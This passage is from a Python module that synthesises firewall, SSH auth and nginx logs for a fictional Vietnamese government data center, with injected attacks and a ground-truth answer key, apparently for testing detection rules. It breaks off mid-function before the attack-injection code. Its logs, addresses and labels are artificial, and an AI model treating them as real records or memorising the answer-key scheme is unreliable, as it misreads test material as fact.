"""Simulated logs of a Vietnamese provincial data center, with injected attacks and their ground truth.

`simulate(days, seed, out)` writes three logs as the real devices write them:

- `fortigate.log`: FortiOS 6/7 traffic logs in key=value syslog form (`<189>date=... time=...`),
- `auth.log`: sshd / sudo / CRON / systemd-logind lines of nine Linux servers (RFC 3164),
- `nginx_access.log`: nginx "combined" access log of the public-service portal,

plus `ground_truth.json`, the list of injected attacks sorted by start. Each entry is
`{"kind", "entity": {"source.ip"}, "start", "end", "count", "file", "target"}`: `start`/`end` are
the UTC times (`soc.events.format_ts`) of the attack's first and last line in `file`, and `count`
is the number of its lines there, counted per kind as:

- `ssh_bruteforce`: "Failed password" lines in auth.log (60-300, over several minutes; the
  connections also write "Invalid user", pam_unix and "Connection closed" lines);
- `ssh_login_after_bruteforce`: the one "Accepted password" line of the same source, 0.5-8 min
  after its brute force ended (the first brute force of a run always succeeds, later ones half the time);
- `sqli_scan`, `path_traversal`: every access-log line of the source (all carry a payload);
- `port_scan`: every FortiGate line of the source (100-500 distinct ports on 1-3 DMZ hosts, mostly denied).

Brute-force, SQL-injection and traversal sources also leave a few firewall sessions (accepted,
one port) near their attack. "kind", "entity", "start" and "end" are the stable interface.

Benign traffic follows office hours in Asia/Ho_Chi_Minh (weekdays 07:30-17:00 busy, lunch dip
11:30-13:00, quiet nights and weekends) over a fixed address plan: 10.10.0.0/16 servers
(10.10.10.0/24 the DMZ), 10.20.0.0/16 office workstations, partners over the SSL-VPN
(10.212.134.0/24), citizens from Vietnamese ISP ranges. The mail server 10.10.20.30 is the one
host that sends SMTP (25) to the Internet: detection rules treat it as the mail relay.
Benign traffic is kept clear of anything a detection rule could mistake for an attack: at most
one mistyped password per person per hour, a handful of destination ports per source, no SQL
or path-traversal text in URLs. Attack sources come from address ranges benign traffic never uses.

Everything is drawn from one `random.Random(seed)`, never from the clock, so the same arguments
give byte-identical files. `start` is the first simulated day (00:00 local time); it defaults to
the fixed `DEFAULT_START` so that a bare call stays reproducible: callers that want recent
data (the demo) pass `start` explicitly, e.g. today minus `days`.

Lines are generated a quarter hour at a time and written in time order through one small
sorting buffer per file, so memory stays flat whatever the number of days.
"""

from __future__ import annotations

import json
from bisect import bisect_left
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta, timezone
from operator import itemgetter
from pathlib import Path
from random import Random
from typing import Any, Callable, TextIO
from urllib.parse import quote, quote_plus

from soc.errors import SocError
from soc.events import format_ts

LOCAL_TZ = timezone(timedelta(hours=7), "Asia/Ho_Chi_Minh")  # Vietnam keeps no daylight saving
DEFAULT_START = date(2026, 11, 16)  # a Monday
FORTIGATE_LOG = "fortigate.log"
AUTH_LOG = "auth.log"
NGINX_LOG = "nginx_access.log"
GROUND_TRUTH = "ground_truth.json"
ATTACK_KINDS = ("ssh_bruteforce", "ssh_login_after_bruteforce", "sqli_scan", "port_scan", "path_traversal")

_OFFSET = 7 * 3600
_SLOT = 900  # seconds: benign volumes are drawn per quarter hour
_T = itemgetter(0)


@dataclass
class SimulationResult:
    """What `simulate` wrote: file paths and line counts keyed by file name, and the attacks."""

    out: Path
    start: datetime
    end: datetime
    files: dict[str, Path]
    lines: dict[str, int]
    ground_truth: Path
    attacks: list[dict[str, Any]] = field(default_factory=list)

    @property
    def total_lines(self) -> int:
        return sum(self.lines.values())


def simulate(days: int, seed: int, out: Path, start: date | None = None, scale: float = 1.0) -> SimulationResult:
    """Write `days` days of logs from `start` (00:00 Asia/Ho_Chi_Minh) into `out/` and return what was written.

    `scale` multiplies the volume of citizens', office and server traffic (1.0 is about 34k lines on a
    weekday, 12k on a weekend day); the servers' housekeeping in auth.log (cron, backups, admins'
    sessions, about 3k lines a day) and the attacks keep their size.
    """
    if not isinstance(days, int) or days < 1:
        raise SocError(f"simulate: days must be a whole number >= 1, got {days!r}")
    if not scale > 0:
        raise SocError(f"simulate: scale must be > 0, got {scale!r}")
    out = Path(out)
    try:
        out.mkdir(parents=True, exist_ok=True)
    except OSError as exc:
        raise SocError(f"simulate: cannot create output folder {out}: {exc}") from exc
    first_day = start or DEFAULT_START
    t0 = datetime(first_day.year, first_day.month, first_day.day, tzinfo=LOCAL_TZ)
    gt_path = out / GROUND_TRUTH
    try:
        sim = _Simulation(Random(seed), t0.timestamp(), days, scale, out)
        attacks = sim.run()
        gt_path.write_text(json.dumps(attacks, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    except OSError as exc:
        raise SocError(f"simulate: cannot write into {out}: {exc}") from exc
    return SimulationResult(
        out=out,
        start=t0.astimezone(timezone.utc),
        end=(t0 + timedelta(days=days)).astimezone(timezone.utc),
        files={name: out / name for name in sim.sinks},
        lines={name: sink.count for name, sink in sim.sinks.items()},
        ground_truth=gt_path,
        attacks=attacks,
    )


# --------------------------------------------------------------------------------------------
# Time formatting and ordered writing
# --------------------------------------------------------------------------------------------

_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_HMS = [f"{h:02d}:{m:02d}:{s:02d}" for h in range(24) for m in range(60) for s in range(60)]
_EPOCH_DAY = date(1970, 1, 1)


class _Clock:
    """Local-time (UTC+7) text of epoch seconds in the three formats, cached per day."""

    def __init__(self) -> None:
        self._days: dict[int, tuple[str, str, str]] = {}

    def _parts(self, t: float) -> tuple[tuple[str, str, str], str]:
        dayno, sec = divmod(int(t) + _OFFSET, 86400)
        day = self._days.get(dayno)
        if day is None:
            d = _EPOCH_DAY + timedelta(days=dayno)
            mon = _MONTHS[d.month - 1]
            day = (f"{mon} {d.day:>2}", f"{d.day:02d}/{mon}/{d.year}", d.isoformat())
            self._days[dayno] = day
        return day, _HMS[sec]

    def syslog(self, t: float) -> str:
        day, hms = self._parts(t)
        return f"{day[0]} {hms}"

    def nginx(self, t: float) -> str:
        day, hms = self._parts(t)
        return f"{day[1]}:{hms} +0700"

    def fortigate(self, t: float) -> str:
        day, hms = self._parts(t)
        return f"date={day[2]} time={hms}"


class _Sink:
    """One output file: lines may be added out of order; `flush(until)` writes those before `until` sorted."""

    def __init__(self, path: Path, end: float) -> None:
        self.fh: TextIO = open(path, "w", encoding="utf-8", newline="\n")
        self.pending: list[tuple[float, str]] = []
        self.count = 0
        self.end = end

    def add(self, t: float, line: str) -> None:
        self.pending.append((t, line))

    def flush(self, until: float) -> None:
        pending = self.pending
        pending.sort(key=_T)
        cut = bisect_left(pending, min(until, self.end), key=_T)
        if cut:
            self.fh.write("\n".join([line for _, line in pending[:cut]]) + "\n")
            self.count += cut
            del pending[:cut]

    def close(self) -> None:
        self.flush(self.end)  # lines of sessions running past the end are dropped
        self.pending.clear()


# --------------------------------------------------------------------------------------------
# The data center: addresses, hosts, people, the portal
# --------------------------------------------------------------------------------------------

DEVNAME = "FGT-TINH-01"
PUBLIC_IP = "123.30.188.10"  # the data center's SNAT address
PORTAL_HOST = "dichvucong.tinhdemo.gov.vn"
PORTAL_IP = "10.10.10.10"  # srv-web-01: the nginx reverse proxy whose access log we write
SFTP_IP = "10.10.10.20"
DNS_IP = "10.10.1.2"
BASTION_IP = "10.10.1.10"
MONITOR_IP = "10.10.1.20"
BACKUP_IP = "10.10.30.5"

# name, address, accounts with their uids (beyond the shared admins)
HOSTS: list[tuple[str, str]] = [
    ("srv-web-01", PORTAL_IP),
    ("srv-app-01", "10.10.10.11"),
    ("srv-app-02", "10.10.10.12"),
    ("srv-sftp-01", SFTP_IP),
    ("srv-db-01", "10.10.20.11"),
    ("srv-mail-01", "10.10.20.30"),
    ("srv-file-01", "10.10.20.40"),
    ("srv-eoffice-01", "10.10.20.50"),
    ("srv-backup-01", BACKUP_IP),
]
HOST_IP = dict(HOSTS)

# IT staff: user, uid, workstation address, ssh method
ADMINS: list[tuple[str, int, str, str]] = [
    ("quantri", 1000, "10.20.5.11", "publickey"),
    ("nguyenvanan", 1001, "10.20.5.12", "password"),
    ("tranthibich", 1002, "10.20.5.13", "publickey"),
    ("lequanghuy", 1003, "10.20.5.14", "password"),
    ("phamminhtuan", 1004, "10.20.5.15", "publickey"),
]
# partners that upload files to the SFTP server through the FortiGate SSL-VPN, whose tunnel
# addresses (FortiOS' default pool 10.212.134.200-210) reach the DMZ from interface ssl.root
PARTNERS: list[tuple[str, int, str]] = [
    ("kbnn_sftp", 1101, "10.212.134.200"),
    ("vnpt_hddt", 1102, "10.212.134.201"),
    ("bhxh_dongbo", 1103, "10.212.134.202"),
]
# accounts an attacker may end up guessing on the SFTP server: (user, uid)
WEAK_ACCOUNTS: list[tuple[str, int]] = [("test", 1005), ("ftpuser", 1006), ("quantri", 1000)]

ADMIN_COMMANDS = [
    "/usr/bin/systemctl status nginx",
    "/usr/bin/systemctl restart php8.1-fpm",
    "/usr/bin/tail -n 200 /var/log/nginx/error.log",
    "/usr/bin/apt update",
    "/usr/bin/apt upgrade -y",
    "/usr/bin/df -h",
    "/usr/bin/journalctl -u nginx --since today",
    "/usr/bin/docker ps",
    "/usr/sbin/ufw status",
    "/usr/bin/vim /etc/nginx/sites-available/dichvucong.conf",
    "/usr/bin/du -sh /var/lib/postgresql",
    "/usr/bin/systemctl reload nginx",
]

# Vietnamese ISP ranges (VNPT, Viettel, FPT): citizens and mail senders
VN_NETS = [(113, 160, 32), (14, 160, 32), (27, 64, 16), (171, 224, 32), (116, 96, 16), (42, 112, 8)]
# ranges attackers come from; benign traffic never uses them
ATTACK_NETS = [
    ("45.135", "Russian Federation"), ("185.220", "Germany"), ("193.142", "Netherlands"),
    ("141.98", "Lithuania"), ("92.255", "Russian Federation"), ("218.92", "China"),
    ("61.177", "China"), ("222.186", "China"), ("5.188", "Russian Federation"),
    ("194.26", "Russian Federation"), ("89.248", "Netherlands"), ("80.94", "Russian Federation"),
]
# internet background: single denied probes, one port each, from research scanners and bots
NOISE_NETS = [
    ("162.142", "United States"), ("167.94", "United States"), ("71.6", "United States"),
    ("205.210", "United States"), ("87.236", "Netherlands"), ("147.185", "United States"),
    ("1.12", "China"), ("36.112", "China"), ("201.184", "Brazil"), ("103.88", "India"),
]
NOISE_PORTS = [23, 445, 3389, 8080, 1433, 5900, 6379, 2323, 81, 8443, 3306, 21]
# where office workstations browse to
WEB_NETS = [
    ("142.250", "United States"), ("172.217", "United States"), ("157.240", "United States"),
    ("20.205", "Singapore"), ("13.107", "United States"), ("104.16", "United States"),
    ("111.65", "Vietnam"), ("49.213", "Vietnam"), ("125.212", "Vietnam"), ("118.69", "Vietnam"),
]
UPDATE_SERVERS = [("91.189.91.81", "United Kingdom"), ("185.125.190.36", "United Kingdom")]
UPSTREAM_DNS = [("8.8.8.8", "United States"), ("203.162.4.191", "Vietnam")]

SERVICES = {
    21: "FTP", 22: "SSH", 23: "TELNET", 25: "SMTP", 53: "DNS", 80: "HTTP", 110: "POP3", 123: "NTP",
    143: "IMAP", 389: "LDAP", 443: "HTTPS", 445: "SMB", 993: "IMAPS", 1433: "MS-SQL", 3306: "MYSQL",
    3389: "RDP", 5900: "VNC",
}

# policy id -> (name, uuid is drawn per seed)
POLICIES = {
    1: "WAN-to-PORTAL", 2: "WAN-to-SFTP", 3: "LAN-to-Internet", 4: "LAN-to-Servers",
    5: "IT-Admin-to-Servers", 6: "Servers-to-Internet", 7: "DMZ-to-DB", 8: "Monitoring-to-DMZ",
    9: "WAN-to-MAIL", 10: "Backup-to-Servers", 11: "SSLVPN-Partners-to-SFTP",
}
# interface and role of each zone
ZONES = {"wan": ("port1", "wan"), "lan": ("port2", "lan"), "dmz": ("port3", "dmz"), "srv": ("port4", "lan"),
         "vpn": ("ssl.root", "undefined")}


def _zone(ip: str) -> str:
    if ip[:3] != "10.":
        return "wan"
    if ip[:6] == "10.20.":
        return "lan"
    if ip[:7] == "10.212.":
        return "vpn"
    return "dmz" if ip[:9] == "10.10.10." else "srv"


_SRC_INTF = {z: f'srcintf="{i}" srcintfrole="{r}"' for z, (i, r) in ZONES.items()}
_DST_INTF = {z: f'dstintf="{i}" dstintfrole="{r}"' for z, (i, r) in ZONES.items()}
_FW_KIND = 'tz="+0700" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root"'
_FW_DENY = 'policyid=0 policytype="policy"'
_FW_DENY_TAIL = ('trandisp="noop" duration=0 sentbyte=0 rcvdbyte=0 sentpkt=0 appcat="unscanned" '
                 'crscore=30 craction=131072 crlevel="high"')


# --- the portal -----------------------------------------------------------------------------

UA_WEIGHTED = [
    (30, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36"),
    (10, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"),
    (22, "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36"),
    (12, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1"),
    (8, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1"),
    (8, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) coc_coc_browser/130.0.202 Chrome/124.0.6367.212 Safari/537.36"),
    (7, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0"),
    (3, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0"),
    (4, "Mozilla/5.0 (Linux; Android 13; SM-A536E Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/129.0.6668.100 Mobile Safari/537.36 Zalo android/12100566 ZaloTheme/light ZaloLanguage/vi"),
    (2, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Zalo iOS/24.10.1 ZaloTheme/light ZaloLanguage/vi"),
    (3, "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36"),
    (2, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15"),
]
USER_AGENTS = [ua for w, ua in UA_WEIGHTED for _ in range(w)]
BOTS = [
    ("66.249.66", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("123.30.175", "Mozilla/5.0 (compatible; coccocbot-web/1.0; +http://help.coccoc.com/searchengine)"),
]
EXTERNAL_REFERERS = ["-", "-", "-", "https://www.google.com/", "https://dichvucong.gov.vn/", "https://zalo.me/",
                     "https://www.facebook.com/", "https://coccoc.com/search"]

# path, size range, cache-able
ASSETS = [
    ("/static/css/bootstrap.min.css?v=5.3.3", 232_000, 233_000),
    ("/static/css/dvc.min.css?v=2.4.1", 44_000, 46_000),
    ("/static/js/jquery-3.7.1.min.js", 87_500, 87_600),
    ("/static/js/bootstrap.bundle.min.js", 80_700, 80_800),
    ("/static/js/dvc.app.js?v=2.4.1", 118_000, 121_000),
    ("/static/img/logo-tinh.png", 18_400, 18_500),
    ("/static/img/quoc-huy.png", 25_100, 25_200),
    ("/static/fonts/Roboto-Regular.woff2", 64_300, 64_400),
    ("/favicon.ico", 5_430, 5_430),
]
LINH_VUC = ["dat-dai", "xay-dung", "ho-tich", "tu-phap", "giao-thong-van-tai", "kinh-doanh",
            "lao-dong-thuong-binh-xa-hoi", "giao-duc-dao-tao", "y-te", "tai-nguyen-moi-truong"]
KEYWORDS = [quote_plus(k) for k in (
    "cấp giấy phép xây dựng", "đăng ký khai sinh", "chứng thực bản sao", "cấp đổi giấy phép lái xe",
    "đăng ký kinh doanh hộ cá thể", "giấy chứng nhận quyền sử dụng đất", "lý lịch tư pháp",
    "đăng ký kết hôn", "trích lục hộ tịch", "đăng ký thường trú", "cấp lại căn cước",
)]
NEWS = ["thong-bao-lich-tiep-cong-dan-thang-11", "huong-dan-nop-ho-so-truc-tuyen-qua-vneid",
        "ket-qua-danh-gia-chi-so-hai-long-quy-3", "thong-bao-bao-tri-he-thong-ngay-30-11",
        "tinh-day-manh-thanh-toan-truc-tuyen-phi-le-phi", "cong-bo-danh-muc-thu-tuc-hanh-chinh-moi"]


# --------------------------------------------------------------------------------------------
# Shapes of the day
# --------------------------------------------------------------------------------------------

def _office_weight(minute: int, weekend: bool) -> float:
    """Share of peak activity of office workers at a local minute of the day."""
    if weekend:
        return 0.03
    if 480 <= minute < 690:  # 08:00-11:30
        return 1.0
    if 450 <= minute < 480:  # 07:30-08:00, people arriving
        return 0.6
    if 690 <= minute < 780:  # lunch
        return 0.25
    if 780 <= minute < 1020:  # 13:00-17:00
        return 1.0
    if 1020 <= minute < 1050:
        return 0.4
    if 390 <= minute < 450 or 1050 <= minute < 1140:
        return 0.1
    return 0.02


def _citizen_weight(minute: int, weekend: bool) -> float:
    """Share of peak portal use by citizens: office hours, some evening use, little at night."""
    if minute < 360:
        w = 0.04
    elif minute < 450:
        w = 0.2
    elif minute < 690:
        w = 1.0
    elif minute < 780:
        w = 0.45
    elif minute < 1020:
        w = 1.0
    elif minute < 1140:
        w = 0.5
    elif minute < 1320:
        w = 0.4
    else:
        w = 0.15
    return w * (0.35 if weekend else 1.0)


# peak volumes per hour at scale 1.0
CITIZEN_SESSIONS_PER_HOUR = 110
STAFF_PORTAL_PER_HOUR = 12
OFFICE_FLOWS_PER_HOUR = 1150
ADMIN_SESSIONS_PER_HOUR = 4
DB_FLOWS_PER_HOUR = 30
NOISE_PER_HOUR = 4


# --------------------------------------------------------------------------------------------
# The simulation
# --------------------------------------------------------------------------------------------

class _Simulation:
    def __init__(self, rng: Random, start: float, days: int, scale: float, out: Path) -> None:
        self.rng = rng
        self.rnd = rng.random
        self.start = start
        self.end = start + days * 86400
        self.days = days
        self.scale = scale
        self.clock = _Clock()
        self.sinks = {name: _Sink(out / name, self.end) for name in (FORTIGATE_LOG, AUTH_LOG, NGINX_LOG)}
        self.fw = self.sinks[FORTIGATE_LOG]
        self.auth = self.sinks[AUTH_LOG]
        self.web = self.sinks[NGINX_LOG]
        self.devid = "FG100FTK" + "".join(str(int(self.rnd() * 10)) for _ in range(8))
        self.fw_device = f'devname="{DEVNAME}" devid="{self.devid}"'
        self.fw_policy = {pid: f'policyid={pid} policytype="policy" poluuid="{self._uuid()}" policyname="{name}"'
                          for pid, name in POLICIES.items()}
        self.session_id = 100_000 + int(self.rnd() * 900_000)
        self.pids = {name: 2_000 + int(self.rnd() * 60_000) for name, _ in HOSTS}
        self.logind_pid = {name: 600 + int(self.rnd() * 400) for name, _ in HOSTS}
        self.logind_session = {name: 1 + int(self.rnd() * 900) for name, _ in HOSTS}
        self.key_fp = {user: self._fingerprint() for user, *_ in ADMINS}
        self.key_fp["deploy"] = self._fingerprint()
        self.key_fp["backup"] = self._fingerprint()
        self.workstations = self._workstations()
        self.typos: set[tuple[str, int]] = set()  # (source, hour) pairs that already mistyped
        self.used_ips: set[str] = set()

    # --- small random helpers -------------------------------------------------------------

    def pick(self, seq: list | tuple) -> Any:
        return seq[int(self.rnd() * len(seq))]

    def randint(self, lo: int, hi: int) -> int:
        return lo + int(self.rnd() * (hi - lo + 1))

    def count(self, expected: float) -> int:
        """A count around `expected`: +-15% jitter, then stochastic rounding."""
        x = expected * (0.85 + 0.3 * self.rnd())
        n = int(x)
        return n + (1 if self.rnd() < x - n else 0)

    def _uuid(self) -> str:
        h = "".join("0123456789abcdef"[int(self.rnd() * 16)] for _ in range(32))
        return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"

    def _fingerprint(self) -> str:
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
        return "".join(alphabet[int(self.rnd() * 64)] for _ in range(43))

    def _workstations(self) -> list[str]:
        hosts = []
        for dept in range(1, 13):
            if dept == 5:  # the IT department: admins' machines are handled apart
                continue
            hosts += [f"10.20.{dept}.{h}" for h in range(20, 20 + self.randint(20, 60))]
        return hosts

    def vn_ip(self) -> str:
        a, b0, span = self.pick(VN_NETS)
        return f"{a}.{b0 + int(self.rnd() * span)}.{int(self.rnd() * 256)}.{1 + int(self.rnd() * 254)}"

    def net_ip(self, nets: list[tuple[str, str]]) -> tuple[str, str]:
        prefix, country = self.pick(nets)
        return f"{prefix}.{int(self.rnd() * 256)}.{1 + int(self.rnd() * 254)}", country

    def attacker_ip(self) -> tuple[str, str]:
        while True:
            ip, country = self.net_ip(ATTACK_NETS)
            if ip not in self.used_ips:
                self.used_ips.add(ip)
                return ip, country

    def eport(self) -> int:
        return 32768 + int(self.rnd() * 28232)

    def new_pid(self, host: str) -> int:
        pid = self.pids[host] + 1 + int(self.rnd() * 40)
        if pid > 4_194_000:
            pid = 1_000
        self.pids[host] = pid
        return pid

    # --- line writers ---------------------------------------------------------------------

    def fw_line(self, t: float, src: str, sport: int, dst: str, dport: int, proto: int, action: str,
                policy: int, duration: int, sent: int, rcvd: int, scountry: str = "Reserved",
                dcountry: str = "Reserved", service: str | None = None) -> None:
        """One FortiGate forward-traffic log (session end, or a deny)."""
        self.session_id += 1 + int(self.rnd() * 40)
        szone, dzone = _zone(src), _zone(dst)
        if service is None:
            service = SERVICES.get(dport) or f"{'udp' if proto == 17 else 'tcp'}/{dport}"
        eventtime = int(t * 1_000_000) * 1000 + int(self.rnd() * 1000)
        head = (f'<189>{self.clock.fortigate(t)} {self.fw_device} eventtime={eventtime} {_FW_KIND} '
                f'srcip={src} srcport={sport} {_SRC_INTF[szone]} dstip={dst} dstport={dport} {_DST_INTF[dzone]} '
                f'srccountry="{scountry}" dstcountry="{dcountry}" sessionid={self.session_id} proto={proto} '
                f'action="{action}" ')
        if action == "deny":
            tail = f'{_FW_DENY} service="{service}" {_FW_DENY_TAIL}'
        else:
            if dzone == "wan":
                nat = f'trandisp="snat" transip={PUBLIC_IP} transport={self.eport()}'
            else:
                nat = 'trandisp="noop"'
            spkt = sent // 700 or 1
            rpkt = rcvd // 1300 or (1 if rcvd else 0)
            tail = (f'{self.fw_policy[policy]} service="{service}" {nat} duration={duration} '
                    f'sentbyte={sent} rcvdbyte={rcvd} sentpkt={spkt} rcvdpkt={rpkt} appcat="unscanned"')
        self.fw.add(t, head + tail)

    def syslog(self, t: float, host: str, prog: str, msg: str) -> None:
        self.auth.add(t, f"{self.clock.syslog(t)} {host} {prog}: {msg}")

    def nginx(self, t: float, ip: str, method: str, path: str, status: int, size: int, ref: str, ua: str,
              proto: str = "HTTP/1.1") -> None:
        self.web.add(t, f'{ip} - - [{self.clock.nginx(t)}] "{method} {path} {proto}" {status} {size} "{ref}" "{ua}"')

    # --- the run --------------------------------------------------------------------------

    def run(self) -> list[dict[str, Any]]:
        try:
            return self._run()
        finally:
            for sink in self.sinks.values():
                sink.fh.close()

    def _run(self) -> list[dict[str, Any]]:
        attacks = _Attacks(self).inject()
        slot = self.start
        while slot < self.end:
            local_minute = int((slot + _OFFSET) % 86400) // 60
            weekday = datetime.fromtimestamp(slot, LOCAL_TZ).weekday()
            weekend = weekday >= 5
            ow, cw = _office_weight(local_minute, weekend), _citizen_weight(local_minute, weekend)
            self.citizens(slot, cw)
            self.staff_portal(slot, ow)
            self.office_flows(slot, ow)
            self.admin_sessions(slot, ow)
            self.partner_uploads(slot, ow)
            self.server_flows(slot, cw, local_minute)
            self.cron(slot, local_minute)
            self.nightly(slot, local_minute, weekday)
            self.noise(slot)
            slot += _SLOT
            for sink in self.sinks.values():
                sink.flush(slot)
        for sink in self.sinks.values():
            sink.close()
        return attacks

    # --- the portal: citizens, bots and staff ---------------------------------------------

    def citizens(self, slot: float, weight: float) -> None:
        for _ in range(self.count(CITIZEN_SESSIONS_PER_HOUR * self.scale * weight / 4)):
            t = slot + self.rnd() * _SLOT
            if self.rnd() < 0.03:
                self.bot_visit(t)
            else:
                self.citizen_session(t)

    def citizen_session(self, t: float) -> None:
        ip, ua = self.vn_ip(), self.pick(USER_AGENTS)
        proto = "HTTP/2.0" if self.rnd() < 0.6 else "HTTP/1.1"
        journey = self.pick(_JOURNEYS)
        ref = self.pick(EXTERNAL_REFERERS)
        cold = self.rnd() < 0.65
        t_begin, total = t, 0
        for i, (method, path, status, lo, hi) in enumerate(journey(self)):
            size = lo + int(self.rnd() * (hi - lo))
            self.nginx(t, ip, method, path, status, size, ref, ua, proto)
            total += size
            page_ref = f"https://{PORTAL_HOST}{path}"
            if method == "GET" and status == 200 and not path.startswith("/api/"):
                total += self.page_assets(t, ip, ua, proto, page_ref, first=(i == 0), cold=cold)
                if "iPhone" in ua and i == 0 and self.rnd() < 0.3:
                    self.nginx(t + 0.4, ip, "GET", "/apple-touch-icon.png", 404, 162, "-", ua, proto)
            if method == "GET" and not path.startswith("/api/"):
                ref = page_ref
            t += 4 + self.rnd() * 50 if status in (200, 304) else 0.3 + self.rnd()
        duration = int(t - t_begin) + 1
        self.fw_line(t + 5, ip, self.eport(), PORTAL_IP, 443, 6, "close", 1, duration,
                     2_000 + total // 40, total + 4_000, scountry="Vietnam")

    def page_assets(self, t: float, ip: str, ua: str, proto: str, ref: str, first: bool, cold: bool) -> int:
        if not first:
            return 0
        total = 0
        for path, lo, hi in ASSETS:
            t += 0.02 + self.rnd() * 0.3
            if cold:
                size = lo + int(self.rnd() * (hi - lo + 1))
                self.nginx(t, ip, "GET", path, 200, size, ref, ua, proto)
                total += size
            elif self.rnd() < 0.5:
                self.nginx(t, ip, "GET", path, 304, 0, ref, ua, proto)
        return total

    def bot_visit(self, t: float) -> None:
        prefix, ua = self.pick(BOTS)
        ip = f"{prefix}.{1 + int(self.rnd() * 200)}"
        for _ in range(self.randint(1, 4)):
            path = self.pick([f"/tin-tuc/{self.pick(NEWS)}", f"/dich-vu-cong/danh-sach?linh-vuc={self.pick(LINH_VUC)}",
                              f"/dich-vu-cong/chi-tiet?ma-thu-tuc={self.ma_thu_tuc()}", "/robots.txt", "/sitemap.xml"])
            self.nginx(t, ip, "GET", path, 200, self.randint(900, 48_000), "-", ua)
            t += 5 + self.rnd() * 60
        self.fw_line(t + 2, ip, self.eport(), PORTAL_IP, 443, 6, "close", 1, int(t) % 60 + 5,
                     3_000, 90_000, scountry="United States" if prefix.startswith("66.") else "Vietnam")

    def staff_portal(self, slot: float, weight: float) -> None:
        """Civil servants in the offices process applications in the back office."""
        ua = USER_AGENTS[0]
        for _ in range(self.count(STAFF_PORTAL_PER_HOUR * self.scale * weight / 4)):
            t = slot + self.rnd() * _SLOT
            ip = self.pick(self.workstations)
            ma = self.ma_ho_so(t)
            ref = f"https://{PORTAL_HOST}/quan-tri/ho-so?trang-thai=cho-xu-ly"
            self.nginx(t, ip, "GET", "/quan-tri/ho-so?trang-thai=cho-xu-ly&trang=1", 200, self.randint(30_000, 60_000), "-", ua)
            self.nginx(t + 20 + self.rnd() * 60, ip, "GET", f"/quan-tri/ho-so/{ma}", 200, self.randint(20_000, 40_000), ref, ua)
            t2 = t + 90 + self.rnd() * 300
            self.nginx(t2, ip, "POST", f"/quan-tri/ho-so/{ma}/chuyen-xu-ly", 302, 0, ref, ua)
            self.fw_line(t2 + 3, ip, self.eport(), PORTAL_IP, 443, 6, "close", 4, int(t2 - t) + 3,
                         self.randint(4_000, 9_000), self.randint(60_000, 120_000))

    def ma_ho_so(self, t: float) -> str:
        d = datetime.fromtimestamp(t - self.rnd() * 30 * 86400, LOCAL_TZ)
        return f"000.00.{self.randint(10, 40)}.H{self.randint(10, 63)}-{d:%y%m%d}-{self.randint(1, 999):04d}"

    def ma_thu_tuc(self) -> str:
        return f"{self.pick('12')}.00{self.randint(1000, 9999)}"

    # --- firewall: offices, servers, internet background ----------------------------------

    def office_flows(self, slot: float, weight: float) -> None:
        for _ in range(self.count(OFFICE_FLOWS_PER_HOUR * self.scale * weight / 4)):
            t = slot + self.rnd() * _SLOT
            ws = self.pick(self.workstations)
            r = self.rnd()
            if r < 0.55:
                dst, country = self.net_ip(WEB_NETS)
                dur = self.randint(1, 180)
                self.fw_line(t, ws, self.eport(), dst, 443, 6, "close", 3, dur, self.randint(800, 40_000),
                             self.randint(2_000, 900_000), dcountry=country)
            elif r < 0.63:
                dst, country = self.net_ip(WEB_NETS)
                self.fw_line(t, ws, self.eport(), dst, 80, 6, "close", 3, self.randint(1, 30),
                             self.randint(400, 3_000), self.randint(1_000, 200_000), dcountry=country)
            elif r < 0.78:
                self.fw_line(t, ws, self.eport(), DNS_IP, 53, 17, "accept", 4, 0, self.randint(60, 90),
                             self.randint(90, 400))
            elif r < 0.86:
                self.fw_line(t, ws, self.eport(), HOST_IP["srv-mail-01"], 443, 6, "close", 4, self.randint(5, 600),
                             self.randint(2_000, 300_000), self.randint(5_000, 2_000_000))
            elif r < 0.93:
                self.fw_line(t, ws, self.eport(), HOST_IP["srv-file-01"], 445, 6, "close", 4, self.randint(5, 900),
                             self.randint(2_000, 5_000_000), self.randint(2_000, 8_000_000))
            else:
                self.fw_line(t, ws, self.eport(), HOST_IP["srv-eoffice-01"], 443, 6, "close", 4,
                             self.randint(10, 1200), self.randint(5_000, 200_000), self.randint(20_000, 3_000_000))

    def server_flows(self, slot: float, weight: float, minute: int) -> None:
